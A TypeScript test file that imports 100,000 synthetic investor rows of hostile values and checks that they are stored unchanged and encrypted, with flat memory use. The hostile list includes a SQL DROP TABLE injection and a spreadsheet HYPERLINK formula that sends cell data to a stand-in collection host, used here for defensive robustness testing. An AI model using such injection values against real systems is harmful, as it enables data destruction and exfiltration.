// A file of 100,000 investors with hostile values: they arrive unchanged, and the import's memory does not grow.
import { Readable } from 'node:stream'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { describe, expect, test } from 'vitest'
import { openBankAccountNumber, openTaxId } from '../../src/investors/sensitive-fields.ts'
import { indexTaxId } from '../../src/investors/tax-id-index.ts'
import { importColumns, useImportBench } from '../support/import-bench.ts'

setFlagsFromString('--expose-gc')
const collectGarbage = runInNewContext('gc') as () => void

const bench = useImportBench()
const { database, cipher, importFrom } = bench

const hostile = [
  'He said "now", twice ""',
  'line one\r\nline two\nline three\rfour',
  'tab\there',
  'back\\slash \\t \\x41',
  '\\N',
  '\\.',
  'a\n\\.\nb',
  '=HYPERLINK("https://collect.example/?q="&A1)',
  '+1 Ventures; LLC',
  'emoji 🏦👩‍👩‍👧',
  'Cafe\u0301 and Café',
  'משפחת לוי 山田',
  "'; DROP TABLE investor; --",
  '\u0001\b\f\v\u007f|',
]

function hostileRow(n: number) {
  const value = hostile[n % hostile.length] as string
  const digits = String(n).padStart(6, '0')
  return {
    externalId: `${value.slice(0, 20)} ${n}`,
    name: `${value} ${n}`,
    email: `investor.${n}@mail.example`,
    profileType: ['INDIVIDUAL', 'JOINT', 'TRUST', 'ENTITY', 'IRA'][n % 5],
    address: n % 3 === 0 ? null : value,
    taxId: n % 7 === 0 ? null : `000-${digits.slice(0, 2)}-${digits.slice(2)}`,
    bankName: value,
    bankAccountType: n % 2 === 0 ? 'CHECKING' : 'SAVINGS',
    bankRoutingNumber: '021000021',
    bankAccountNumber: `000${digits}`,
  }
}

const toCsvLine = (values: (string | null | undefined)[]) =>
  `${values.map((value) => `"${(value ?? '').replaceAll('"', '""')}"`).join(',')}\r\n`

/** In chunks of the size in which a file is read. */
function* hostileFile(rows: number) {
  let chunk = `\uFEFF${importColumns.join(',')}\r\n`
  for (let n = 0; n < rows; n += 1) {
    chunk += toCsvLine(Object.values(hostileRow(n)))
    if (chunk.length < 65_536) continue
    yield Buffer.from(chunk)
    chunk = ''
  }
  yield Buffer.from(chunk)
}

describe('a large file', () => {
  test('100,000 rows of hostile values arrive unchanged, in flat memory', { timeout: 120_000 }, async () => {
    const megabytesInUse: number[] = []
    const imported = await importFrom(Readable.from(hostileFile(100_000), { objectMode: false }), {
      onProgress: (rowsRead) => {
        if (rowsRead % 10_000 === 0) megabytesInUse.push(measureMemory())
      },
    })
    expect(imported).toEqual({ imported: 100_000 })
    expect(megabytesInUse).toHaveLength(10)
    expect(Math.max(...megabytesInUse) - (megabytesInUse[0] as number)).toBeLessThan(8)
    expect(await database.db.investor.count({ where: { accountId: bench.accountId } })).toBe(100_000)
    await expectStored([0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 777, 31_415, 65_536, 99_998, 99_999])
  })
})

/** The memory in use after a garbage collection, in megabytes. */
function measureMemory(): number {
  collectGarbage()
  const { heapUsed, external } = process.memoryUsage()
  return (heapUsed + external) / 1e6
}

async function expectStored(numbers: number[]): Promise<void> {
  const { accountId } = bench
  const wanted = numbers.map(hostileRow)
  const rows = await database.db.investor.findMany({
    where: { externalId: { in: wanted.map((row) => row.externalId) } },
  })
  const byEmail = new Map(rows.map((row) => [row.email, row]))
  for (const row of wanted) {
    const stored = byEmail.get(row.email)
    if (!stored) throw new Error(`no investor ${row.email}`)
    const { id, createdAt, taxId, bankAccountNumber, taxIdLast4, taxIdIndex, bankAccountLast4, ...plain } =
      stored
    expect({
      ...plain,
      taxId: taxId && openTaxId(cipher, id, taxId),
      bankAccountNumber: bankAccountNumber && openBankAccountNumber(cipher, id, bankAccountNumber),
    }).toEqual({ accountId, ...row })
    expect(taxIdIndex).toEqual(row.taxId && new Uint8Array(indexTaxId(cipher, accountId, row.taxId)))
    expect(taxIdLast4).toBe(row.taxId?.slice(-4) ?? null)
    expect(bankAccountLast4).toBe(row.bankAccountNumber.slice(-4))
    expect(Math.abs(Date.now() - createdAt.getTime())).toBeLessThan(120_000)
  }
}
